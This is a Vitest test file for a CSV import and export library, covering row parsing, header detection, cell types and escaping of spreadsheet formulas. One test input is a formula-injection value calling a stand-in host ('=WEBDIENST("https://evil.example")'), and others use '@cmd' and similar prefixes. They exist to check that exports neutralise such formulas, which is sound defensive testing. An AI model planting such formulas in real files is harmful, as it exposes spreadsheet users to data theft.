import { Readable } from 'node:stream';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { toCsv, unescapeFormulas } from '@/lib/csv';
import { customerKind } from '@/lib/customers/save-customers';
import { type CellType, toColumns } from '@/lib/imports/columns';
import { csvRows } from '@/lib/imports/csv-rows';
import { linesOf, MAX_ROW } from '@/lib/imports/lines';
import { readCell } from '@/lib/imports/read-cell';
import { readHeader } from '@/lib/imports/read-header';
import { rejectedPath } from '@/lib/imports/rejected-file';
import { rowTexts } from '@/lib/imports/row-texts';
import { SeenKeys } from '@/lib/imports/seen-keys';
import { decodeWindows1252 } from '@/lib/imports/windows-1252';
import { serverKind } from '@/lib/servers/save-servers';
import { serviceKind } from '@/lib/services/save-services';

async function read(pieces: string[], { delimiter = ',', atOnce = 3 } = {}) {
  const rows = [];
  const sizes = [];
  for await (const batch of csvRows(rowTexts(linesOf(Readable.from(pieces)), delimiter), delimiter, atOnce)) {
    rows.push(...batch);
    sizes.push(batch.length);
  }
  return { rows, sizes };
}

const cut = (text: string, size: number) => text.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? [];

const QUOTES = 'has a quotation mark';

describe('the rows of a file', () => {
  test.each<[string, string, string[]]>([
    ['lines with any line end', 'a,b\r\nc,d\n\ne,f', ['a|b', 'c|d', 'e|f']],
    ['line breaks in quotes', '"a\nb",c\nd,"e ""f"""', ['a\nb|c', 'd|e "f"']],
    ['a quotation mark that is not closed', 'a,b\n"c,d\ne,f\ng,h', ['a|b', `2: ${QUOTES}`, 'e|f', 'g|h']],
    ['a quotation mark within a cell', 'a,b\n19" rack,d\ne,f', ['a|b', `2: ${QUOTES}`, 'e|f']],
    ['two lines with quotation marks', 'a,5" x\nb,c\nd,7" y', [`1: ${QUOTES}`, 'b|c', `3: ${QUOTES}`]],
    ['a quotation mark that is open in the last line', 'a,b\nc,"d', ['a|b', `2: ${QUOTES}`]],
    ['text after a quoted cell', '"a" b,c\nd,e', [`1: ${QUOTES}`, 'd|e']],
  ])('rows are read from %s', async (_, text, expected) => {
    const { rows } = await read(cut(text, 5));
    const problemOf = (row: { line: number; problem: string }) =>
      `${row.line}: ${row.problem.slice(0, QUOTES.length)}`;
    expect(rows.map((row) => ('cells' in row ? row.cells.join('|') : problemOf(row)))).toEqual(expected);
  });

  test('a batch of rows ends once it holds as much text as one row may', async () => {
    const wide = Array.from({ length: 9 }, () => `${'x'.repeat(MAX_ROW / 4)}\n`);
    expect((await read(wide, { atOnce: 1000 })).sizes).toEqual([4, 4, 1]);
  });

  test('a line that is too long is rejected without the lines after it', async () => {
    const { rows } = await read(['a,', 'x'.repeat(MAX_ROW + 1), '\nb,c\n']);
    const problem = expect.stringMatching(/more than/);
    expect(rows).toMatchObject([{ problem }, { line: 2, cells: ['b', 'c'] }]);
  });

  test('every CSV file that the product writes is read again', async () => {
    const cell = fc.string({ unit: fc.constantFrom(...'a",;\n\' ß') });
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(cell, cell), { minLength: 1 }),
        fc.integer({ min: 1, max: 9 }),
        async (rows, size) => {
          const records = rows.map(([a, b], i) => ({ n: String(i), a, b }));
          let text = '';
          for await (const part of toCsv(['n', 'a', 'b'], Readable.from([records]))) text += part;
          const found = await read(cut(text.replace('\ufeff', ''), size));
          const cells = found.rows.slice(1).map((row) => 'cells' in row && row.cells);
          expect(cells).toEqual(records.map(({ n, a, b }) => [n, a, b]));
        },
      ),
    );
  });
});

describe('the header of a file', () => {
  const known = toColumns(serverKind.fields);
  const header = (raw: string, { map }: { map?: [string, string][] } = {}) =>
    readHeader(raw, known, { map: new Map(map), constants: new Map(), decimalComma: false });

  test.each([
    ['hostname,ipv4', ','],
    ['hostname;ipv4', ';'],
    ['hostname\tipv4', '\t'],
    ['"hostname","ipv4"', ','],
    ['hostname', ','],
  ])('the delimiter of the header %j is %j', (raw, delimiter) => {
    const read = header(raw);
    expect(read.delimiter).toBe(delimiter);
    expect(read.columns[0]?.ours?.name).toBe('hostname');
  });

  test('columns are mapped to fields by name, and an empty name leaves one out', () => {
    const map = Object.entries({ Name: 'hostname', Colour: '' });
    const { columns } = header('Name;Colour', { map });
    expect(columns.map(({ ours }) => ours?.name ?? null)).toEqual(['hostname', null]);
  });

  test.each([
    ['colour,hostname', {}, 'Unknown: "colour"'],
    ['hostname,hostname', {}, 'twice'],
    ['Name,ipv4', { map: [['Nam', 'hostname']] as [string, string][] }, 'no column Nam'],
    ['Name,ipv4', { map: [['Name', 'host']] as [string, string][] }, 'Unknown: "host"'],
    ['PK\u0003\u0004\u0000', {}, 'no CSV'],
    ['"hostname', {}, 'no CSV'],
  ])('the header %j is refused', (raw, given, sentence) => {
    expect(() => header(raw, given)).toThrow(sentence);
  });
});

test('rejected rows are written beside their file', () => {
  const paths = ['customers.csv', 'a.CSV', 'data'].map(rejectedPath);
  expect(paths).toEqual(['customers.rejected.csv', 'a.rejected.csv', 'data.rejected.csv']);
});

describe('a cell', () => {
  test.each<[string, CellType, unknown]>([
    ['9.90', 'number', 9.9],
    [' 12 ', 'number', 12],
    ['-3', 'number', -3],
    ['2026-01-31', 'date', '2026-01-31'],
    ['31.01.2026', 'date', '2026-01-31'],
    ['1.2.2026', 'date', '2026-02-01'],
    ['31.02.2026', 'date', '2026-02-31'],
    [' 31.01.2026 ', 'instant', '2026-01-31'],
    ['2026-01-31T10:00:00Z ', 'instant', '2026-01-31T10:00:00Z'],
    ['soon', 'instant', 'soon'],
    ['Yes', 'boolean', true],
    ['0', 'boolean', false],
    ['192.0.2.1  192.0.2.2', 'list', ['192.0.2.1', '192.0.2.2']],
    [' text ', 'text', ' text '],
    ["'=SUM(A1)", 'text', '=SUM(A1)'],
    ["'+49 30 1", 'text', '+49 30 1'],
    ["'t Hof", 'text', "'t Hof"],
  ])('the cell %j is read as a %s', (cell, type, value) => {
    expect(readCell(cell, type, false)).toEqual({ value });
  });

  test.each<[string, CellType, RegExp]>([
    ['1.234,56', 'number', /--decimal-comma/],
    ['12,5', 'number', /--decimal-comma/],
    ['1e5', 'number', /must be a number/],
    ['nine', 'number', /must be a number/],
    ['maybe', 'boolean', /true or false/],
    ['constructor', 'boolean', /true or false/],
    ['01/31/2026', 'date', /31\.01\.2026/],
  ])('the cell %j is not a %s', (cell, type, problem) => {
    expect(readCell(cell, type, false)).toEqual({ problem: expect.stringMatching(problem) });
  });

  test.each<[string, unknown]>([
    ['1.234,56', { value: 1234.56 }],
    ['1.234', { value: 1234 }],
    ['12', { value: 12 }],
    ['0,5', { value: 0.5 }],
    ['12.5', { problem: expect.stringMatching(/decimal comma/) }],
    ['1,234.56', { problem: expect.stringMatching(/decimal comma/) }],
  ])('the number %j is read with a decimal comma', (cell, read) => {
    expect(readCell(cell, 'number', true)).toEqual(read);
  });
});

const csvOf = async (text: string) => {
  let csv = '';
  for await (const part of toCsv(['n', 'text'], Readable.from([[{ n: 1, text }]]))) csv += part;
  return csv.replace('\ufeff', '');
};

test.each([
  ['=1+1', "'=1+1"],
  ['x;=WEBDIENST("https://evil.example")', `x;'=WEBDIENST("https://evil.example")`],
  ['x; \u00a0=1', "x;' \u00a0=1"],
  ['x;"=1', `x;'"=1`],
  ['x\t@cmd', "x\t'@cmd"],
  ['x\n-1', "x\n'-1"],
  ['x;+1;=2;y', "x;'+1;'=2;y"],
  ["'=1", "''=1"],
  ["x;'=1", "x;''=1"],
  ['\t=1', "'\t'=1"],
  ['\uff1d1', "'\uff1d1"],
  ['a-b; c+d, =e', 'a-b; c+d, =e'],
])('the text %j is written as %j and read as it was', async (text, written) => {
  expect(await csvOf(text)).toBe(`"n","text"\r\n"1","${written.replaceAll('"', '""')}"\r\n`);
  expect(unescapeFormulas(written)).toBe(text);
});

test('a spreadsheet that splits a file at semicolons finds no formula in it', async () => {
  const unit = fc.constantFrom(...'a;="\'\t\n\r+-@ ,');
  await fc.assert(
    fc.asyncProperty(fc.string({ unit }), async (text) => {
      const csv = await csvOf(text);
      const cells = csv.split(/[;\t\r\n]/).map((cell) => cell.replace(/^[ "]+/, ''));
      expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    }),
  );
});

test('the escape of a formula is taken off once, and nothing else', () => {
  const cells = ["'=a", "''=a", "'a", "'\uff1da", '=a', "it;'s"];
  expect(cells.map(unescapeFormulas)).toEqual(['=a', "'=a", "'a", '\uff1da', '=a', "it;'s"]);
});

test('the type of a cell and the meaning of an empty one come from its field', () => {
  const typesOf = (fields: Parameters<typeof toColumns>[0]) =>
    Object.fromEntries(toColumns(fields).map(({ name, type, empty }) => [name, `${type}, ${empty}`]));
  expect(typesOf(customerKind.fields)).toMatchObject({
    ...{ customer_number: 'text, left out', email: 'text, null', tax_exempt: 'boolean, left out' },
  });
  expect(typesOf(serverKind.fields)).toMatchObject({ ipv4: 'list, none', cpu_cores: 'number, null' });
  expect(typesOf(serviceKind.fields)).toMatchObject({
    ...{ customer_number: 'text, refused', price: 'number, refused', start_date: 'date, null' },
  });
});

test('Windows-1252 has a euro sign', () => {
  expect(decodeWindows1252(Buffer.from([0x80, 0xe4, 0x96, 0x41, 0x9f]))).toBe('€ä–AŸ');
});

test('a repeated key is found with the line that had it first', () => {
  const seen = new SeenKeys();
  for (let line = 1; line <= 2000; line += 1) expect(seen.note(`key ${line}`, line)).toBeUndefined();
  for (let line = 1; line <= 2000; line += 1) expect(seen.note(`key ${line}`, 9999)).toBe(line);
  expect([seen.has('key 1711'), seen.has('key 0')]).toEqual([true, false]);
});
